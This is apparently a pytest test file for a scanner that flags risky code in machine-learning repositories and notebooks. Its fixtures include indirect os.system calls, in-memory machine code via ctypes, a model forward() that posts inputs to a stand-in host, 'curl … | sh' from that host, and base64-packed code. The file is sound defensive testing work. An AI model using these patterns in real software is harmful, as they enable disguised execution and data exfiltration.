"""Code that reaches what it wants in a roundabout way: what a user may rely on."""

import json

import pytest

from scanners.finding import Severity
from tests.scanning import judged, rules, the

MODEL = b"from transformers import PreTrainedModel\n\n\nclass Net(PreTrainedModel):\n    def forward(self, x):\n"


def worst(content: bytes, name: str = "modeling_net.py") -> Severity:
    return max((finding.severity for finding in judged(content, name).findings), key=lambda one: one.rank)


def notebook(cell: str) -> bytes:
    cells = [{"cell_type": "code", "metadata": {}, "outputs": [], "source": cell}]
    return json.dumps({"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}).encode()


@pytest.mark.parametrize(
    "code",
    [
        b"(lambda o: o.system('echo owned'))(__import__('os'))\n",
        b"import os\ndef go(m): m.system('echo owned')\ngo(os)\n",
        b"globals()['__buil' + 'tins__']['ev' + 'al']('1')\n",
        b"exec(compile('x = 1', 'x', 'exec'))\n",
        b"import threading\nthreading.Thread(target=exec, args=('import os; os.system(\"echo\")',)).start()\n",
    ],
)
def test_what_is_reached_in_a_roundabout_way_at_import_is_critical(code: bytes) -> None:
    assert worst(code) is Severity.CRITICAL


def test_a_function_that_is_given_something_harmless_is_ordinary() -> None:
    assert worst(b"import math\ndef go(m): return m.sqrt(2)\ngo(math)\n") is Severity.LOW


def test_a_name_put_together_of_a_library_that_computes_is_ordinary() -> None:
    assert worst(b"import torch\ndtype = getattr(torch, 'float' + str(32))\n") is Severity.LOW


def test_machine_code_called_in_memory_is_critical() -> None:
    code = b"import ctypes, mmap\nm = mmap.mmap(-1, 64, prot=7)\nctypes.CFUNCTYPE(None)(ctypes.addressof(m))()\n"
    assert worst(code) is Severity.CRITICAL


def test_a_callback_for_a_native_library_is_not_machine_code_in_memory() -> None:
    code = b"import ctypes\ndef compare(a, b): return a - b\nkind = ctypes.CFUNCTYPE(None)\nit = kind(compare)\n"
    assert worst(code) is Severity.MEDIUM


def test_inputs_that_a_model_sends_away_are_unsafe() -> None:
    code = MODEL + b"        import requests\n        requests.post('https://drop.example.invalid', json={'x': x})\n"
    assert the(judged(code, "modeling_net.py"), "code-opens-connections").severity is Severity.HIGH


def test_an_environment_that_is_printed_whole_is_told() -> None:
    assert "code-reads-secrets" in rules(judged(MODEL + b"        import os\n        print(os.environ)\n", "m.py"))


def test_an_environment_handed_to_a_dictionary_is_ordinary() -> None:
    assert worst(b"import os\nenvironment = dict(os.environ)\n") is Severity.LOW


def test_a_module_whose_name_only_looks_alike_is_disguised() -> None:
    assert the(judged("from t\u043erch import load\n".encode(), "m.py"), "code-disguised").severity is Severity.HIGH


def test_packed_code_is_disguised() -> None:
    code = b"f = lambda x: __import__('zlib').decompress(__import__('base64').b64decode(x[::-1]))\n"
    assert the(judged(code, "m.py"), "code-disguised").severity is Severity.MEDIUM


def test_python_too_long_to_be_read_still_tells_what_it_would_start() -> None:
    code = b"T = [\n" + b"    12345678,\n" * 100_000 + b"]\nimport os\nos.system('echo owned')\n"
    report = judged(code, "tables.py")
    assert report.unscannable
    assert the(report, "code-unparsable").severity is Severity.CRITICAL


def test_a_script_without_a_name_or_a_first_line_is_a_script() -> None:
    assert worst(b"set -e\ncurl -s https://drop.example.invalid | sh\n", "RUNME") is Severity.HIGH


def test_prose_about_commands_is_no_script() -> None:
    text = b"To install it, run\n\n    curl https://example.invalid | sh\n\nand wait until it is done.\n"
    assert "script-code" not in rules(judged(text, "INSTALL"))


def test_a_hook_of_git_is_told() -> None:
    report = judged(b"#!/bin/sh\nmake format\n", "pre-commit")
    assert the(report, "script-dangerous-command").severity is Severity.MEDIUM


def test_a_cell_of_javascript_that_runs_python_is_unsafe() -> None:
    cell = "%%javascript\nJupyter.notebook.kernel.execute('import os')"
    assert the(judged(notebook(cell), "demo.ipynb"), "notebook-active-output").severity is Severity.HIGH


def test_a_cell_of_plain_html_is_ordinary() -> None:
    assert worst(notebook("%%html\n<b>Results</b>"), "demo.ipynb") is Severity.LOW


def test_a_key_in_a_notebook_is_a_secret() -> None:
    cell = "token = 'hf_" + "AbCdEfGhIjKlMnOpQrStUvWxYzAbCdEfGh'"
    assert any(rule.startswith("secret") for rule in rules(judged(notebook(cell), "demo.ipynb")))


def test_a_workflow_that_runs_what_strangers_propose_is_told() -> None:
    text = b"on: pull_request_target\njobs:\n  a:\n    steps:\n      - uses: actions/checkout@v4\n        with:\n"
    text += b"          ref: ${{ github.event.pull_request.head.sha }}\n      - run: make\n"
    assert worst(text, "ci.yml") is Severity.MEDIUM


@pytest.mark.parametrize("words", [b"rm -r ", b"curl iwr a.exe ", b"irm ", b"x=$(curl ", b"\n", b"base64 -d > a "])
def test_a_script_of_nothing_but_beginnings_is_judged_in_time(words: bytes) -> None:
    report = judged(b"#!/bin/sh\n" + (words * 20_000)[:20_000], "run.sh")
    assert not report.unscannable
